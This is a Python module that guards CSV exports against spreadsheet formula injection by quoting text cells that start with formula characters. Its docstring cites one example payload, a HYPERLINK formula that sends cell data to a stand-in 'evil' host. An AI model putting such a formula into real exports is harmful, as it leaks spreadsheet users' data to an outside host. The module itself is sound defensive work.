"""CSV that spreadsheets open as data, never as formulas (OWASP "CSV injection").

A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel, LibreOffice and
Google Sheets (`=HYPERLINK("http://evil/?"&A1, "click")`). Every CSV the project writes - each table's
download, the report's CSV and the CSV embedded in the report, `sla simulate --flips-csv` - goes through
this module, which prefixes such text cells with a single quote. Numbers stay numbers: a numeric column's
`-3.5` is not text and cannot carry a formula.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import Any

import polars as pl

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
FORMULA_PATTERN = r"^[=+\-@\t\r]"
# A signed plain number ("-1.25", "+3e-4") is data to every spreadsheet, not a formula: it is left alone.
NUMBER_PATTERN = r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$"
_NUMBER = re.compile(NUMBER_PATTERN)


def neutralize(value: Any) -> Any:
    """One cell: text that a spreadsheet would run as a formula gets a leading single quote."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.match(value):
        return "'" + value
    return value


def neutralize_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """Every text column of `frame` neutralized (numbers, dates and times are left as they are)."""
    text = [name for name, dtype in frame.schema.items() if dtype in (pl.String, pl.Categorical, pl.Enum)
            or isinstance(dtype, pl.Enum | pl.Categorical)]
    return frame.with_columns(
        pl.when(pl.col(name).cast(pl.String).str.contains(FORMULA_PATTERN)
                & ~pl.col(name).cast(pl.String).str.contains(NUMBER_PATTERN))
        .then(pl.lit("'") + pl.col(name).cast(pl.String))
        .otherwise(pl.col(name).cast(pl.String))
        .alias(name)
        for name in text
    )


def frame_csv(frame: pl.DataFrame) -> str:
    """The frame as CSV text, safe to open in a spreadsheet."""
    return neutralize_frame(frame).write_csv()


def rows_csv(rows: Iterable[Iterable[Any]]) -> str:
    """Rows of cells (the first row the header) as CSV text, safe to open in a spreadsheet."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    for row in rows:
        writer.writerow([neutralize(cell) for cell in row])
    return buffer.getvalue()


def formula_cells(csv_text: str) -> list[str]:
    """Cells of `csv_text` a spreadsheet would run as formulas (for tests and checks): empty when safe."""
    return [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row
            if cell.startswith(FORMULA_START) and not _NUMBER.match(cell)]
